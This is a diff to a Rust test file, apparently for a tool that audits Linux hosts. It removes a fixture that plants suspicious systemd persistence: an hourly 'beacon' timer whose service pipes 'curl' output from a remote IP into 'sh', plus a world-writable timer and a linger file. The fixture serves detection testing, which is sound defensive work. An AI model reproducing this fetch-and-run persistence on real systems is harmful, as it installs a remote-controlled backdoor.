@@ -195,22 +195,6 @@ fn compile_errors_and_bad_headers_exit_2_with_location() {
     }
 }
 
-fn planted() -> Fx {
-    let fx = Fx::new();
-    fx.debian_layout()
-        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
-        .file("/etc/systemd/system/beacon.timer", "[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n")
-        .file(
-            "/etc/systemd/system/beacon.service",
-            "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/p | sh'\n",
-        )
-        .link("/etc/systemd/system/timers.target.wants/beacon.timer", "../beacon.timer")
-        .file("/etc/systemd/system/report.timer", "[Timer]\nOnCalendar=daily\n")
-        .mode("/etc/systemd/system/report.timer", 0o666)
-        .file("/var/lib/systemd/linger/alice", "");
-    fx
-}
-
 #[test]
 fn check_reports_and_exit_codes() {
     let fx = planted();
